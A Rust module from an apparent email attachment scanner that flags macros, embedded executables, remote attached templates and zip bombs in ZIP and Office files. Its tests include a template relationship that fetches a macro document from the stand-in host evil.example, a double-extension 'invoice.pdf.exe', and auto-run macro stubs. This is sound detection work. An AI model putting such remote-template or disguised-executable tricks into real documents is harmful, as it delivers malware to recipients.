//! ZIP archives and the office documents that are ones.

use miniz_oxide::inflate::decompress_to_vec_with_limit;
use rawzip::{CompressionMethod, ZipArchive, ZipFileHeaderRecord, ZipSliceArchive};

use super::{Inspection, ole};
use crate::assessment::UnscannableCause;
use crate::file_name::{self, FileKind};
use crate::limits::Limits;
use crate::message::AttachmentFindingKind;

pub(super) fn inspect(bytes: &[u8], limits: &Limits, inspection: &mut Inspection) {
    let Ok(archive) = ZipArchive::from_slice(bytes) else {
        inspection.cannot_scan(UnscannableCause::Damaged);
        return;
    };
    let mut zip = Zip { archive: &archive, limits, room: limits.inflated_bytes, declared: 0 };
    let mut entries = archive.entries();
    for index in 0..=limits.archive_entries {
        match entries.next_entry() {
            Ok(Some(_)) if index == limits.archive_entries => {
                inspection.cannot_scan(UnscannableCause::Limit);
            }
            Ok(Some(entry)) => zip.entry(&entry, inspection),
            Ok(None) => break,
            Err(_) => {
                inspection.cannot_scan(UnscannableCause::Damaged);
                break;
            }
        }
    }
    zip.size(bytes.len(), inspection);
}

struct Zip<'a, 'b> {
    archive: &'a ZipSliceArchive<&'b [u8]>,
    limits: &'a Limits,
    /// How many bytes may still be decompressed.
    room: usize,
    /// How many bytes the archive says it holds.
    declared: u64,
}

impl Zip<'_, '_> {
    fn entry(&mut self, entry: &ZipFileHeaderRecord<'_>, inspection: &mut Inspection) {
        let name = String::from_utf8_lossy(entry.file_path().as_bytes()).into_owned();
        self.declared = self.declared.saturating_add(entry.uncompressed_size_hint());
        if entry.flags().is_encrypted() {
            inspection.add(AttachmentFindingKind::Encrypted, &name);
            inspection.cannot_scan(UnscannableCause::Encrypted);
        }
        if !entry.is_dir() && file_name::kind(&name) == Some(FileKind::Program) {
            inspection.add(AttachmentFindingKind::ArchiveExecutable, &name);
        }
        let lower = name.to_ascii_lowercase();
        if lower.starts_with("xl/macrosheets/") {
            inspection.add(AttachmentFindingKind::Macro, "Excel 4 macro sheet");
        }
        if lower.ends_with("vbaproject.bin") {
            self.macros(entry, inspection);
        } else if lower.ends_with(".xml.rels") {
            self.relations(entry, inspection);
        } else if ARCHIVES.iter().any(|extension| lower.ends_with(extension)) {
            inspection.cannot_scan(UnscannableCause::Unsupported);
        }
    }

    fn macros(&mut self, entry: &ZipFileHeaderRecord<'_>, inspection: &mut Inspection) {
        inspection.add(AttachmentFindingKind::Macro, "VBA project");
        if let Some(project) = self.inflate(entry, inspection) {
            ole::inspect(&project, self.limits, &mut self.room, inspection);
        }
    }

    /// Word loads the template that an external relation of this type names, macros and all.
    fn relations(&mut self, entry: &ZipFileHeaderRecord<'_>, inspection: &mut Inspection) {
        let Some(relations) = self.inflate(entry, inspection) else { return };
        let relations = String::from_utf8_lossy(&relations).to_ascii_lowercase();
        let mut elements =
            relations.split('<').filter(|element| element.starts_with("relationship "));
        let remote = elements.any(|element| {
            element.contains("/attachedtemplate")
                && element.contains("external")
                && element.contains("://")
        });
        if remote {
            inspection.add(AttachmentFindingKind::RemoteTemplate, "attached template");
        }
    }

    fn inflate(
        &mut self,
        entry: &ZipFileHeaderRecord<'_>,
        inspection: &mut Inspection,
    ) -> Option<Vec<u8>> {
        if entry.flags().is_encrypted() {
            return None;
        }
        let inflated = self
            .archive
            .get_entry(entry.wayfinder())
            .map_err(|_| UnscannableCause::Damaged)
            .and_then(|found| match entry.compression_method() {
                CompressionMethod::STORE if found.data().len() <= self.room => {
                    Ok(found.data().to_vec())
                }
                CompressionMethod::STORE => Err(UnscannableCause::Limit),
                CompressionMethod::DEFLATE => {
                    decompress_to_vec_with_limit(found.data(), self.room).map_err(inflate_cause)
                }
                _ => Err(UnscannableCause::Unsupported),
            });
        match inflated {
            Ok(bytes) => {
                self.room -= bytes.len();
                Some(bytes)
            }
            Err(cause) => {
                inspection.cannot_scan(cause);
                None
            }
        }
    }

    fn size(&self, packed: usize, inspection: &mut Inspection) {
        let packed = u64::try_from(packed).unwrap_or(u64::MAX);
        if self.declared > BOMB_BYTES && self.declared / BOMB_RATIO > packed {
            inspection.add(
                AttachmentFindingKind::Bomb,
                format!("{packed} bytes say they hold {}", self.declared),
            );
        }
    }
}

#[expect(clippy::needless_pass_by_value, reason = "the shape `map_err` wants")]
fn inflate_cause(error: miniz_oxide::inflate::DecompressError) -> UnscannableCause {
    match error.status {
        miniz_oxide::inflate::TINFLStatus::HasMoreOutput => UnscannableCause::Limit,
        _ => UnscannableCause::Damaged,
    }
}

const ARCHIVES: [&str; 7] = [".zip", ".rar", ".7z", ".gz", ".cab", ".tar", ".xz"];
const BOMB_BYTES: u64 = 64 << 20;
const BOMB_RATIO: u64 = 50;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attachment::ole::tests::project;
    use rawzip::ZipArchiveWriter;
    use std::io::Write;

    fn archive(files: &[(&str, &[u8])]) -> Vec<u8> {
        let mut writer = ZipArchiveWriter::new(Vec::new());
        for (name, content) in files {
            let (mut entry, config) = writer.new_file(*name).start().unwrap();
            let mut data = config.wrap(&mut entry);
            data.write_all(content).unwrap();
            let (_, descriptor) = data.finish().unwrap();
            entry.finish(descriptor).unwrap();
        }
        writer.finish().unwrap()
    }

    #[track_caller]
    fn check(files: &[(&str, &[u8])], expected: &[AttachmentFindingKind]) {
        let mut inspection = Inspection::default();
        inspect(&archive(files), &Limits::default(), &mut inspection);
        let kinds: Vec<_> = inspection.findings.iter().map(|found| found.kind).collect();
        assert_eq!(kinds, expected, "{:?}", inspection.unscannable);
    }

    #[test]
    fn looks_into_archives() {
        use AttachmentFindingKind as Kind;
        let auto =
            project("Attribute VB_Name = \"ThisDocument\"\r\nSub Document_Open()\r\nEnd Sub\r\n");
        let remote = br#"<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
        let local = br#"<Relationships><Relationship Type="http://x/attachedTemplate" Target="Normal.dotm"/></Relationships>"#;
        check(&[("notes.txt", b"hello")], &[]);
        check(&[("invoice.pdf.exe", b"MZ")], &[Kind::ArchiveExecutable]);
        check(&[("word/vbaProject.bin", &auto)], &[Kind::Macro, Kind::MacroAutoExec]);
        check(&[("xl/macrosheets/sheet1.xml", b"<x/>")], &[Kind::Macro]);
        check(&[("xl/worksheets/sheet1.xml", b"<x/>")], &[]);
        check(&[("word/_rels/settings.xml.rels", remote)], &[Kind::RemoteTemplate]);
        check(&[("word/_rels/settings.xml.rels", local)], &[]);
    }

    #[test]
    fn the_limit_of_entries_is_named_when_it_is_passed() {
        let files: Vec<(&str, &[u8])> = vec![("a.txt", b"a"), ("b.txt", b"b")];
        for (entries, expected) in [(2, &[][..]), (1, &[UnscannableCause::Limit])] {
            let limits = Limits { archive_entries: entries, ..Limits::default() };
            let mut inspection = Inspection::default();
            inspect(&archive(&files), &limits, &mut inspection);
            assert_eq!(inspection.unscannable, expected);
        }
    }

    #[test]
    fn all_projects_of_an_archive_share_what_may_be_decompressed() {
        let long = project(&format!("Attribute VB_Name\r\n{}", "' note\r\n".repeat(1_000)));
        let auto = project("Attribute VB_Name\r\nSub AutoOpen()\r\n");
        let inflated_bytes = 2 * long.len() + auto.len();
        let limits = Limits { inflated_bytes, ..Limits::default() };
        let mut inspection = Inspection::default();
        let files: Vec<(&str, &[u8])> = vec![
            ("1/vbaProject.bin", &long),
            ("2/vbaProject.bin", &long),
            ("3/vbaProject.bin", &auto),
        ];
        inspect(&archive(&files), &limits, &mut inspection);
        assert!(inspection.unscannable.contains(&UnscannableCause::Limit), "{inspection:?}");
    }

    #[test]
    fn damaged_archives_are_named() {
        let mut inspection = Inspection::default();
        inspect(b"PK\x03\x04", &Limits::default(), &mut inspection);
        assert_eq!(inspection.unscannable, [UnscannableCause::Damaged]);
    }
}
